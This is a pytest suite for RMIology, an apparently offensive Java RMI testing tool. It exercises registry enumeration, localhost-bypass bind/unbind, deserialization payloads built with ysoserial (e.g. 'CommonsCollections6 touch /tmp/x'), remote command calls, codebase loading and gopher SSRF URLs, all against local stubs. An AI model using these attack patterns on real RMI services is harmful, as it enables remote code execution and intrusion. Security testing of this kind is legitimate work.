#!/usr/bin/env python3
#
# MIT License
#
# Copyright (c) 2026 Joris van de Vis
#
# Permission is hereby granted, free of charge, to any person obtaining a copy
# of this software and associated documentation files (the "Software"), to deal
# in the Software without restriction, including without limitation the rights
# to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
# copies of the Software, and to permit persons to whom the Software is
# furnished to do so, subject to the following conditions:
#
# The above copyright notice and this permission notice shall be included in all
# copies or substantial portions of the Software.
#
# THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
# IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
# FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
# AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
# LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
# OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
# SOFTWARE.
#
"""
Tests for the RMIology dispatcher: request validation, argument and payload
providers, every operation against a stub registry, SSRF output, the JRMP
listener and the command line entry point.
"""

import json
import threading
import time
from dataclasses import replace
from types import SimpleNamespace
from urllib.parse import unquote_to_bytes

import pytest

import RMIology
from conftest import (
    RegistryStub, exception_object, exception_return, unmarshal_failure, first_argument, free_port,
)
from RMIology_wire import (
    ObjID, MethodSignature, ValidationError, SignatureError, ConnectError, STREAM_HEADER,
    REGISTRY_INTERFACE_HASH, COMPONENTS, Component, call_endpoint, decode_call,
    encode_return, java_null, java_string, java_primitive, serialized_hashmap,
    serialized_remote_proxy,
)
from RMIology_ssrf import stream_prefix
from RMIology import (
    Operation, OperationRequest, Target, Dispatcher, DispatchResult, ArgumentProvider,
    PayloadProvider, YsoserialPayloadProvider, JRMPListener, parse_endpoint, generate_json_export,
    main,
)

OBJECT_ID = ObjID(4242, 0x5eed, 0x1f2e3d, 9)
OBJECT_ID_HEX = OBJECT_ID.to_bytes().hex()
EXECUTE = MethodSignature.parse("String execute(String cmd)")
PING = MethodSignature.parse("String ping(String host)")


def request(operation, *arguments, port="1099", host="127.0.0.1", **kwargs):
    target = Target(kwargs.pop("bound_name", None), kwargs.pop("objid", None),
                    kwargs.pop("component", None))
    return OperationRequest(Operation(operation), host, str(port), target, list(arguments), **kwargs)


@pytest.fixture
def registry(stub_server):
    """Stub registry with a plain server object and a JMX connector bound."""
    stub = RegistryStub(objects={OBJECT_ID: {
        EXECUTE.method_hash: encode_return(java_string("uid=0(root)")),
    }})
    endpoint = stub_server(stub)
    stub.bound["plain-server"] = ("127.0.0.1", endpoint.port, OBJECT_ID, ("com.example.IPlainServer",))
    stub.bound["jmxrmi"] = ("127.0.0.1", endpoint.port, ObjID(5),
                            ("javax.management.remote.rmi.RMIServer",))
    return stub, endpoint


# ═══════════════════════════════════════════════════════════════════════════════
# Validation
# ═══════════════════════════════════════════════════════════════════════════════

INVALID_REQUESTS = [
    ("call without signature", request("call", '"id"', objid="5")),
    ("call with two targets", request("call", '"id"', objid="5", bound_name="x",
                                      signature=str(EXECUTE))),
    ("call without target", request("call", '"id"', signature=str(EXECUTE))),
    ("call with wrong argument count", request("call", '"a", "b"', objid="5", signature=str(EXECUTE))),
    ("call with bad literal", request("call", "whoami", objid="5", signature=str(EXECUTE))),
    ("call on a port range", request("call", '"id"', port="1099-1100", objid="5",
                                     signature=str(EXECUTE))),
    ("bind without listener", request("bind", bound_name="evil")),
    ("bind with bad listener", request("bind", "10.0.0.1", bound_name="evil")),
    ("bind without name", request("bind", "10.0.0.1:4444")),
    ("unbind on the dgc", request("unbind", bound_name="x", component="dgc")),
    ("lookup with objid", request("lookup", objid="5")),
    ("serial with unknown component", request("serial", "hex:70", component="xyz")),
    ("serial without target", request("serial", "hex:70")),
    ("serial on primitive parameter", request("serial", "hex:70", objid="5",
                                              signature="void f(int x)")),
    ("serial without payload file", request("serial", "/nonexistent/payload.ser", component="dgc")),
    ("codebase without url", request("codebase", "Evil", component="dgc")),
    ("bad registry method", request("serial", "hex:70", component="reg", reg_method="list")),
    ("bad dgc method", request("serial", "hex:70", component="dgc", dgc_method="lookup")),
    ("scan with unknown action", request("scan", "nope", port="1099")),
    ("scan with target", request("scan", component="reg")),
    ("enum with bound name", request("enum", bound_name="x")),
    ("guess with component", request("guess", component="reg")),
    ("guess with empty wordlist", request("guess", wordlist=["# nothing", ""])),
    ("bad objid", request("call", '"id"', objid="not-an-objid", signature=str(EXECUTE))),
    ("ssrf on scan", request("scan", ssrf="gopher")),
    ("ssrf on guess", request("guess", ssrf="raw")),
    ("ssrf call with bound name", request("call", '"id"', bound_name="x", signature=str(EXECUTE),
                                          ssrf="raw")),
    ("ssrf lookup of every name", request("lookup", ssrf="gopher")),
    ("ssrf with unknown style", request("unbind", bound_name="x", ssrf="ftp")),
    ("ssrf and response together", request("unbind", bound_name="x", ssrf="raw",
                                           ssrf_response="51")),
    ("relay without ssrf", request("unbind", bound_name="x", relay_url="http://relay/")),
    ("relay with gopher", request("unbind", bound_name="x", ssrf="gopher", relay_url="http://relay/")),
    ("response that is not hex", request("unbind", bound_name="x", ssrf_response="xyz")),
    ("enum with unknown action", request("enum", "nope")),
    ("lookup by name and component", request("lookup", bound_name="x", component="reg")),
    ("unbind by name and component", request("unbind", bound_name="x", component="reg")),
    ("argument position on primitive", request("serial", "hex:70", objid="5", argument_pos=0,
                                               signature="void update(int id, Object o)")),
    ("argument position out of range", request("serial", "hex:70", objid="5", argument_pos=2,
                                               signature="void update(int id, Object o)")),
    ("argument position on a component", request("serial", "hex:70", component="dgc", argument_pos=0)),
    ("argument position on call", request("call", '"id"', objid="5", signature=str(EXECUTE),
                                          argument_pos=0)),
    ("no host", request("enum", host="")),
]


class TestValidation:

    @pytest.mark.parametrize("name,req", INVALID_REQUESTS, ids=[n for n, _ in INVALID_REQUESTS])
    def test_rejected_before_network(self, config, no_network, name, req):
        with pytest.raises(ValidationError):
            Dispatcher(config).validate(req)

    def test_signature_errors(self, config, no_network):
        with pytest.raises(SignatureError):
            Dispatcher(config).validate(request("call", '"id"', objid="5", signature="execute"))

    def test_missing_positionals_show_usage(self, config, no_network):
        with pytest.raises(ValidationError, match="usage: rmiology <host> <port> codebase"):
            Dispatcher(config).validate(request("codebase", component="dgc"))

    def test_valid_plan(self, config, no_network):
        plan = Dispatcher(config).validate(request("call", '"id"', objid="4242", signature=str(EXECUTE)))
        assert plan.port == 1099
        assert plan.objid == ObjID(4242)
        assert plan.signature == EXECUTE
        assert plan.arguments == java_string("id")

    def test_scan_plan(self, config, no_network):
        plan = Dispatcher(config).validate(request("scan", "filter", "bypass", port="1098-1099"))
        assert plan.ports == [1098, 1099]
        assert [a.value for a in plan.actions] == ["filter", "localhost-bypass"]

    def test_enum_plan(self, config, no_network):
        dispatcher = Dispatcher(config)
        assert [a.value for a in dispatcher.validate(request("enum")).actions] == [
            "localhost-bypass", "outdated", "filter", "codebase", "activator"]
        assert [a.value for a in dispatcher.validate(request("enum", "jmx", "filter")).actions] == [
            "jmx", "filter"]

    def test_bind_through_registry_component(self, config, no_network):
        plan = Dispatcher(config).validate(request("bind", "10.0.0.1:4444", bound_name="evil", component="reg"))
        assert plan.listener == ("10.0.0.1", 4444)

    @pytest.mark.parametrize("signature,position,expected", [
        ("void update(int id, Object o)", None, 1),
        ("void store(Object key, Object value)", None, 0),
        ("void store(Object key, Object value)", 1, 1),
    ])
    def test_argument_position(self, config, no_network, signature, position, expected):
        plan = Dispatcher(config).validate(request(
            "serial", "hex:70", objid="5", signature=signature, argument_pos=position))
        assert plan.argument_pos == expected

    def test_threads_below_one(self, config, no_network):
        with pytest.raises(ValidationError, match="--threads"):
            Dispatcher(replace(config, threads=0)).validate(request("enum"))

    def test_zero_argument_call(self, config, no_network):
        plan = Dispatcher(config).validate(request("call", "", objid="5", signature="String getVersion()"))
        assert plan.arguments == b""

    @pytest.mark.parametrize("text,expected", [
        ("10.0.0.1:4444", ("10.0.0.1", 4444)),
        ("[::1]:1099", ("[::1]", 1099)),
    ])
    def test_endpoints(self, text, expected):
        assert parse_endpoint(text) == expected

    @pytest.mark.parametrize("text", ["10.0.0.1", ":4444", "h:x", "h:0", "h:70000"])
    def test_bad_endpoints(self, text):
        with pytest.raises(ValidationError):
            parse_endpoint(text)


# ═══════════════════════════════════════════════════════════════════════════════
# Providers
# ═══════════════════════════════════════════════════════════════════════════════

class TestArgumentProvider:

    def test_literals(self):
        args = ArgumentProvider().produce_arguments('"id", 42, 7L, true, null, \'c\', 1.5f, 2.5')
        assert args == [
            java_string("id"),
            java_primitive("I", 42),
            java_primitive("J", 7),
            java_primitive("Z", True),
            java_null(),
            java_primitive("C", ord("c")),
            java_primitive("F", 1.5),
            java_primitive("D", 2.5),
        ]

    def test_strings_keep_commas_and_escapes(self):
        args = ArgumentProvider().produce_arguments('"a,b",  "say \\"hi\\""')
        assert args == [java_string("a,b"), java_string('say "hi"')]

    def test_empty(self):
        assert ArgumentProvider().produce_arguments("") == []
        assert ArgumentProvider().produce_arguments("   ") == []

    @pytest.mark.parametrize("text", ["whoami", "99999999999", "'ab'", "1.2.3"])
    def test_unsupported(self, text):
        with pytest.raises(ValidationError):
            ArgumentProvider().produce_arguments(text)


class TestPayloadProvider:

    def test_hex(self):
        data = serialized_hashmap()
        assert PayloadProvider().produce_payload(Operation.SERIAL, "hex:" + data.hex()) == data

    def test_stream_header_is_stripped(self, tmp_path):
        data = serialized_hashmap()
        path = tmp_path / "payload.ser"
        path.write_bytes(STREAM_HEADER + data)
        assert PayloadProvider().produce_payload(Operation.SERIAL, "file:%s" % path) == data
        assert PayloadProvider().produce_payload(Operation.SERIAL, str(path)) == data

    @pytest.mark.parametrize("spec", ["", "hex:zz", "hex:aced0005", "file:/nonexistent/x.ser"])
    def test_unusable(self, spec):
        with pytest.raises(ValidationError):
            PayloadProvider().produce_payload(Operation.SERIAL, spec)


class TestYsoserialProvider:

    def test_runs_jar(self, monkeypatch):
        seen = {}

        def run(cmd, capture_output=False, timeout=None, check=True):
            seen["cmd"] = cmd
            return SimpleNamespace(returncode=0, stdout=STREAM_HEADER + serialized_hashmap(), stderr=b"")

        monkeypatch.setattr(RMIology.subprocess, "run", run)
        provider = YsoserialPayloadProvider("/opt/ysoserial.jar", java="/usr/bin/java")
        payload = provider.produce_payload(Operation.SERIAL, "CommonsCollections6 touch /tmp/x")
        assert payload == serialized_hashmap()
        assert seen["cmd"] == ["/usr/bin/java", "-jar", "/opt/ysoserial.jar",
                               "CommonsCollections6", "touch /tmp/x"]

    def test_failure_reports_last_stderr_line(self, monkeypatch):
        def run(cmd, **kwargs):
            return SimpleNamespace(returncode=1, stdout=b"", stderr=b"usage...\nError: unknown gadget\n")

        monkeypatch.setattr(RMIology.subprocess, "run", run)
        with pytest.raises(ValidationError, match="unknown gadget"):
            YsoserialPayloadProvider("y.jar").produce_payload(Operation.SERIAL, "Nope id")

    def test_missing_java(self, monkeypatch):
        def run(cmd, **kwargs):
            raise FileNotFoundError(cmd[0])

        monkeypatch.setattr(RMIology.subprocess, "run", run)
        with pytest.raises(ValidationError):
            YsoserialPayloadProvider("y.jar").produce_payload(Operation.SERIAL, "CC6 id")

    def test_needs_gadget_and_command(self):
        with pytest.raises(ValidationError):
            YsoserialPayloadProvider("y.jar").produce_payload(Operation.SERIAL, "CommonsCollections6")


# ═══════════════════════════════════════════════════════════════════════════════
# Operations against the stub registry
# ═══════════════════════════════════════════════════════════════════════════════

def statuses(result):
    return {r.item: r.status for r in result.records}


class TestRegistryOperations:

    def test_lookup_every_name(self, config, registry):
        stub, endpoint = registry
        result = Dispatcher(config).dispatch(request("lookup", port=endpoint.port))
        assert result.error is None
        assert statuses(result) == {"jmxrmi": "bound", "plain-server": "bound"}
        records = {r.item: r for r in result.records}
        assert records["jmxrmi"].data["jmx"] is True
        assert records["plain-server"].data["jmx"] is False
        assert records["plain-server"].data["ref"]["port"] == endpoint.port
        assert "com.example.IPlainServer" in records["plain-server"].data["classes"]

    def test_lookup_unknown_name(self, config, registry):
        _, endpoint = registry
        result = Dispatcher(config).dispatch(request("lookup", port=endpoint.port, bound_name="missing"))
        assert statuses(result) == {"missing": "failed"}
        assert "NotBoundException" in result.records[0].detail

    def test_bind_with_localhost_bypass(self, config, registry):
        stub, endpoint = registry
        result = Dispatcher(config).dispatch(request(
            "bind", "10.0.0.1:4444", port=endpoint.port, bound_name="evil", localhost_bypass=True))
        assert statuses(result) == {"evil": "success"}
        assert "evil" in stub.bound
        assert endpoint.calls[-1].opnum == -1

    def test_bind_rejected_for_remote_clients(self, config, registry):
        stub, endpoint = registry
        result = Dispatcher(config).dispatch(request(
            "bind", "10.0.0.1:4444", port=endpoint.port, bound_name="evil"))
        assert statuses(result) == {"evil": "rejected"}
        assert "evil" not in stub.bound
        assert endpoint.calls[-1].opnum == 0

    def test_bind_existing_name(self, config, registry):
        _, endpoint = registry
        result = Dispatcher(config).dispatch(request(
            "bind", "10.0.0.1:4444", port=endpoint.port, bound_name="jmxrmi", localhost_bypass=True))
        assert statuses(result) == {"jmxrmi": "failed"}

    def test_rebind_existing_name(self, config, registry):
        _, endpoint = registry
        result = Dispatcher(config).dispatch(request(
            "rebind", "10.0.0.1:4444", port=endpoint.port, bound_name="jmxrmi", localhost_bypass=True))
        assert statuses(result) == {"jmxrmi": "success"}

    def test_unbind(self, config, registry):
        stub, endpoint = registry
        dispatcher = Dispatcher(config)
        result = dispatcher.dispatch(request("unbind", port=endpoint.port, bound_name="jmxrmi",
                                             localhost_bypass=True))
        assert statuses(result) == {"jmxrmi": "success"}
        assert "jmxrmi" not in stub.bound
        again = dispatcher.dispatch(request("unbind", port=endpoint.port, bound_name="jmxrmi",
                                            localhost_bypass=True))
        assert statuses(again) == {"jmxrmi": "failed"}

    def test_enum(self, config, registry):
        _, endpoint = registry
        result = Dispatcher(config).dispatch(request("enum", port=endpoint.port))
        assert result.error is None
        assert statuses(result) == {
            "jmxrmi": "bound",
            "plain-server": "bound",
            "registry": "info",
            "localhost-bypass": "vulnerable",
            "outdated": "not-vulnerable",
            "filter": "not-vulnerable",
            "codebase": "not-vulnerable",
            "activator": "not-vulnerable",
        }

    def test_enum_selected_actions(self, config, registry):
        _, endpoint = registry
        result = Dispatcher(config).dispatch(request("enum", "filter", port=endpoint.port))
        assert result.error is None
        assert statuses(result) == {
            "jmxrmi": "bound",
            "plain-server": "bound",
            "registry": "info",
            "filter": "not-vulnerable",
        }
        assert [r.item for r in result.records][-1] == "filter"

    def test_enum_unreachable(self, config, dead_ports):
        port = dead_ports(1)[0]
        result = Dispatcher(config).dispatch(request("enum", port=port))
        assert result.error["kind"] == "ConnectError"
        assert result.records[0].item == "registry"
        assert result.records[0].status == "error"
        skipped = result.records[1:]
        assert [r.item for r in skipped] == ["localhost-bypass", "outdated", "filter", "codebase", "activator"]
        assert all(r.status == "inconclusive" and r.detail.startswith("skipped") for r in skipped)

    def test_transport_errors_are_results(self, config, dead_ports):
        port = dead_ports(1)[0]
        result = Dispatcher(config).dispatch(request("lookup", port=port, bound_name="x"))
        assert result.error["kind"] == "ConnectError"
        assert statuses(result) == {"lookup": "error"}


class TestCalls:

    def test_call_by_objid(self, config, registry):
        _, endpoint = registry
        result = Dispatcher(config).dispatch(request(
            "call", '"id"', port=endpoint.port, objid=OBJECT_ID_HEX, signature=str(EXECUTE)))
        assert [r.status for r in result.records] == ["success"]
        assert result.records[0].detail == "'uid=0(root)'"
        call = endpoint.calls[-1]
        assert (call.objid, call.opnum, call.method_hash) == (OBJECT_ID, -1, EXECUTE.method_hash)
        assert first_argument(call) == "id"

    def test_call_by_bound_name(self, config, registry):
        _, endpoint = registry
        result = Dispatcher(config).dispatch(request(
            "call", '"whoami"', port=endpoint.port, bound_name="plain-server", signature=str(EXECUTE)))
        assert [(r.target, r.status) for r in result.records] == [("plain-server", "success")]
        assert first_argument(endpoint.calls[-1]) == "whoami"

    def test_unknown_method(self, config, registry):
        _, endpoint = registry
        result = Dispatcher(config).dispatch(request(
            "call", '"x"', port=endpoint.port, objid=OBJECT_ID_HEX, signature=str(PING)))
        assert [r.status for r in result.records] == ["no-such-method"]

    def test_unbound_name_fails_lookup(self, config, registry):
        _, endpoint = registry
        result = Dispatcher(config).dispatch(request(
            "call", '"x"', port=endpoint.port, bound_name="missing", signature=str(EXECUTE)))
        assert result.error["kind"] == "LookupFailed"
        assert statuses(result) == {"missing": "failed"}


class TestAttacks:

    def test_serial_rejected_by_filter(self, config, stub_server):
        endpoint = stub_server(RegistryStub())
        payload = serialized_hashmap()
        result = Dispatcher(config).dispatch(request(
            "serial", "hex:" + payload.hex(), port=endpoint.port, component="dgc"))
        assert statuses(result) == {"clean": "failed"}
        assert "filter" in result.records[0].detail
        call = endpoint.calls[-1]
        assert call.objid == ObjID(2)
        assert call.args == payload

    def test_serial_deserialized(self, config, stub_server):
        endpoint = stub_server(RegistryStub(deserialization_filter=False))
        result = Dispatcher(config).dispatch(request(
            "serial", "hex:" + serialized_hashmap().hex(), port=endpoint.port, component="dgc",
            dgc_method="dirty"))
        assert statuses(result) == {"dirty": "success"}
        assert endpoint.calls[-1].opnum == 1

    def test_serial_through_registry_lookup(self, config, stub_server):
        endpoint = stub_server(RegistryStub(outdated=True))
        result = Dispatcher(config).dispatch(request(
            "serial", "hex:" + serialized_hashmap().hex(), port=endpoint.port, component="reg"))
        assert statuses(result) == {"lookup": "success"}
        call = endpoint.calls[-1]
        assert (call.objid, call.opnum) == (ObjID(0), 2)

    def test_serial_on_remote_method(self, config, registry):
        _, endpoint = registry
        result = Dispatcher(config).dispatch(request(
            "serial", "hex:" + serialized_hashmap().hex(), port=endpoint.port, bound_name="plain-server",
            signature="void update(Object o)"))
        assert [r.status for r in result.records] == ["failed"]
        assert "method does not exist" in result.records[0].detail

    def test_serial_on_later_parameter(self, config, registry):
        stub, endpoint = registry
        update = MethodSignature.parse("void update(int id, Object o)")
        stub.objects[OBJECT_ID][update.method_hash] = unmarshal_failure(
            "java.lang.ClassCastException", "java.util.HashMap cannot be cast to com.example.Entry")
        payload = serialized_hashmap()
        result = Dispatcher(config).dispatch(request(
            "serial", "hex:" + payload.hex(), port=endpoint.port, objid=OBJECT_ID_HEX,
            signature=str(update)))
        assert [r.status for r in result.records] == ["success"]
        assert endpoint.calls[-1].args == java_primitive("I", 0) + payload

    def test_serial_on_chosen_parameter(self, config, registry):
        stub, endpoint = registry
        store = MethodSignature.parse("void store(Object key, Object value)")
        stub.objects[OBJECT_ID][store.method_hash] = unmarshal_failure("java.lang.ClassCastException")
        payload = serialized_hashmap()
        result = Dispatcher(config).dispatch(request(
            "serial", "hex:" + payload.hex(), port=endpoint.port, objid=OBJECT_ID_HEX,
            signature=str(store), argument_pos=1))
        assert [r.status for r in result.records] == ["success"]
        assert endpoint.calls[-1].args == java_null() + payload

    def test_serial_method_returning_object(self, config, registry):
        stub, endpoint = registry
        log = MethodSignature.parse("String log(Object o)")
        stub.objects[OBJECT_ID][log.method_hash] = encode_return(java_string("logged"))
        result = Dispatcher(config).dispatch(request(
            "serial", "hex:" + serialized_hashmap().hex(), port=endpoint.port, objid=OBJECT_ID_HEX,
            signature=str(log)))
        assert result.error is None
        assert [(r.status, r.detail) for r in result.records] == [("inconclusive", "call returned normally")]

    def test_serial_dgc_dirty_returning_lease(self, config, stub_server):
        endpoint = stub_server(RegistryStub(filter_answer=encode_return(java_string("lease"))))
        result = Dispatcher(config).dispatch(request(
            "serial", "hex:" + serialized_hashmap().hex(), port=endpoint.port, component="dgc",
            dgc_method="dirty"))
        assert result.error is None
        assert statuses(result) == {"dirty": "inconclusive"}
        assert result.records[0].detail == "call returned normally"

    def test_codebase_without_security_manager(self, config, stub_server):
        endpoint = stub_server(RegistryStub(deserialization_filter=False))
        result = Dispatcher(config).dispatch(request(
            "codebase", "Evil", "http://10.0.0.1:8000/", port=endpoint.port, component="dgc"))
        assert statuses(result) == {"clean": "failed"}
        assert result.records[0].detail == "RMI class loader disabled (no security manager)"
        assert first_argument(endpoint.calls[-1]).class_desc.annotations == ["http://10.0.0.1:8000/"]

    def test_codebase_class_loading_enabled(self, config, stub_server):
        endpoint = stub_server(RegistryStub(deserialization_filter=False, codebase=True))
        result = Dispatcher(config).dispatch(request(
            "codebase", "Evil", "InvalidURL", port=endpoint.port, component="dgc"))
        assert statuses(result) == {"clean": "failed"}
        assert "malformed" in result.records[0].detail


class TestGuess:

    def test_guess_on_every_bound_name(self, config, registry):
        stub, endpoint = registry
        stub.objects[OBJECT_ID][PING.method_hash] = unmarshal_failure(
            "java.io.StreamCorruptedException", "invalid type code: 77")
        del stub.objects[OBJECT_ID][EXECUTE.method_hash]
        del stub.bound["jmxrmi"]
        result = Dispatcher(config).dispatch(request(
            "guess", port=endpoint.port, wordlist=[str(EXECUTE), str(PING), "not a signature"]))
        assert result.error is None
        verdicts = {(r.target, r.item): r.status for r in result.records}
        assert verdicts == {
            ("plain-server", str(EXECUTE)): "does-not-exist",
            ("plain-server", str(PING)): "exists",
        }
        assert [r.signature for r in result.report.existing("plain-server")] == [str(PING)]
        hashes = {r.item: r.data["hash"] for r in result.records}
        assert hashes[str(PING)] == PING.method_hash

    def test_guess_on_objid(self, config, registry):
        _, endpoint = registry
        result = Dispatcher(config).dispatch(request(
            "guess", port=endpoint.port, objid=OBJECT_ID_HEX, wordlist=[str(EXECUTE), str(PING)]))
        assert {r.item: r.status for r in result.records} == {
            str(EXECUTE): "exists",
            str(PING): "does-not-exist",
        }


# ═══════════════════════════════════════════════════════════════════════════════
# SSRF
# ═══════════════════════════════════════════════════════════════════════════════

class TestSSRF:

    def test_gopher_payload_is_emitted(self, config, no_network):
        result = Dispatcher(config).dispatch(request(
            "unbind", host="10.0.0.5", bound_name="evil", ssrf="gopher"))
        assert [(r.item, r.status) for r in result.records] == [("ssrf-gopher", "payload")]
        url = result.records[0].detail
        prefix = "gopher://10.0.0.5:1099/_"
        assert url.startswith(prefix + "%4a%52%4d%49")
        stream = unquote_to_bytes(url[len(prefix):])
        call = decode_call(stream[len(stream_prefix("10.0.0.5")):])
        assert (call.objid, call.opnum, call.method_hash) == (ObjID(0), 4, REGISTRY_INTERFACE_HASH)
        assert first_argument(call) == "evil"

    def test_raw_payload_for_call(self, config, no_network):
        result = Dispatcher(config).dispatch(request(
            "call", '"id"', host="10.0.0.5", objid=OBJECT_ID_HEX, signature=str(EXECUTE), ssrf="raw"))
        data = bytes.fromhex(result.records[0].detail)
        assert data.startswith(stream_prefix("10.0.0.5"))
        call = decode_call(data[len(stream_prefix("10.0.0.5")):])
        assert call.method_hash == EXECUTE.method_hash
        assert call.args == java_string("id")

    def test_captured_response_is_decoded(self, config, no_network):
        answer = encode_return(serialized_remote_proxy("10.0.0.9", 4444, ObjID(77), ("com.example.Service",)))
        result = Dispatcher(config).dispatch(request(
            "lookup", bound_name="svc", ssrf_response=answer.hex()))
        assert statuses(result) == {"svc": "bound"}
        assert result.records[0].data["ref"]["host"] == "10.0.0.9"
        assert result.records[0].data["ref"]["port"] == 4444

    def test_captured_exception_is_decoded(self, config, no_network):
        answer = exception_return(("java.rmi.NotBoundException", "svc"))
        result = Dispatcher(config).dispatch(request(
            "unbind", bound_name="svc", ssrf_response=answer.hex()))
        assert statuses(result) == {"svc": "failed"}

    def test_http_relay(self, config, no_network, monkeypatch):
        seen = {}

        def deliver(url, body, timeout=5):
            seen.update(url=url, body=body)
            return encode_return()

        monkeypatch.setattr(RMIology, "deliver_http", deliver)
        result = Dispatcher(config).dispatch(request(
            "unbind", host="10.0.0.5", bound_name="evil", ssrf="http", relay_url="http://relay/",
            localhost_bypass=True))
        assert statuses(result) == {"evil": "success"}
        assert seen["url"] == "http://relay/"
        assert seen["body"].startswith(b"JRMI\x00\x02\x4c")
        call = decode_call(seen["body"][7:])
        assert call.method_hash == COMPONENTS[Component.REGISTRY].method("unbind").signature.method_hash

    def test_relay_failure_is_an_error_result(self, config, no_network, monkeypatch):
        def deliver(url, body, timeout=5):
            raise ConnectError("relay down")

        monkeypatch.setattr(RMIology, "deliver_http", deliver)
        result = Dispatcher(config).dispatch(request(
            "unbind", bound_name="evil", ssrf="http", relay_url="http://relay/"))
        assert result.error == {"kind": "ConnectError", "message": "relay down"}


# ═══════════════════════════════════════════════════════════════════════════════
# Listener
# ═══════════════════════════════════════════════════════════════════════════════

def call_with_retry(port, config, attempts=40):
    for _ in range(attempts):
        try:
            return call_endpoint("127.0.0.1", port, config, ObjID(0), 2, REGISTRY_INTERFACE_HASH)
        except ConnectError:
            time.sleep(0.05)
    raise AssertionError("listener on port %d never came up" % port)


class TestListener:

    PAYLOAD = exception_object("java.lang.IllegalStateException", "payload")

    def test_answers_call_with_payload(self, config):
        port = free_port()
        listener = JRMPListener("127.0.0.1", port, self.PAYLOAD, config)
        thread = threading.Thread(target=listener.serve, kwargs={"max_calls": 1}, daemon=True)
        thread.start()
        frame = call_with_retry(port, config)
        thread.join(timeout=5)
        assert not thread.is_alive()
        assert frame.exception_class == "java.lang.IllegalStateException"
        assert len(listener.served) == 1
        _, call = listener.served[0]
        assert (call.objid, call.opnum) == (ObjID(0), 2)

    def test_listen_operation_until_cancelled(self, config):
        port = free_port()
        dispatcher = Dispatcher(config)
        plan = dispatcher.validate(request("listen", "hex:" + self.PAYLOAD.hex(), port=port))
        results = []
        thread = threading.Thread(target=lambda: results.append(dispatcher.dispatch(plan)), daemon=True)
        thread.start()
        frame = call_with_retry(port, config)
        dispatcher.cancel_event.set()
        thread.join(timeout=5)
        assert frame.is_exception
        assert [r.status for r in results[0].records] == ["served"]


# ═══════════════════════════════════════════════════════════════════════════════
# Output & CLI
# ═══════════════════════════════════════════════════════════════════════════════

class TestOutput:

    def test_json_export(self, tmp_path):
        result = DispatchResult(Operation.LOOKUP, "10.0.0.5:1099")
        result.add("a", "bound", "x", classes=["com.example.A"])
        result.add("b", "bound")
        result.add("c", "failed", "NotBoundException")
        path = tmp_path / "out.json"
        generate_json_export(result, str(path))
        data = json.loads(path.read_text())
        assert data["result"]["operation"] == "lookup"
        assert data["result"]["records"][0]["data"] == {"classes": ["com.example.A"]}
        assert data["summary"] == {"records": 3, "by_status": {"bound": 2, "failed": 1}}


class TestCommandLine:

    def test_validation_error_exits(self, no_network, capsys):
        with pytest.raises(SystemExit) as exc:
            main(["10.0.0.5", "1099", "call", "--no-color"])
        assert exc.value.code == 1
        assert "usage: rmiology" in capsys.readouterr().out

    def test_threads_below_one_exits(self, no_network, capsys):
        with pytest.raises(SystemExit) as exc:
            main(["10.0.0.5", "1099", "enum", "--threads", "0", "--no-color"])
        assert exc.value.code == 1
        assert "--threads must be at least 1" in capsys.readouterr().out

    def test_ssrf_and_gopher_conflict(self, no_network, capsys):
        with pytest.raises(SystemExit) as exc:
            main(["10.0.0.5", "1099", "unbind", "--bound-name", "evil", "--ssrf", "raw", "--gopher"])
        assert exc.value.code == 2
        assert "not allowed with argument" in capsys.readouterr().err

    def test_gopher_with_json(self, no_network, tmp_path, capsys):
        path = tmp_path / "unbind.json"
        main(["10.0.0.5", "1099", "unbind", "--bound-name", "evil", "--gopher",
              "--json", str(path), "--no-color"])
        out = capsys.readouterr().out
        assert "gopher://10.0.0.5:1099/_%4a%52%4d%49" in out
        data = json.loads(path.read_text())
        assert data["result"]["records"][0]["status"] == "payload"
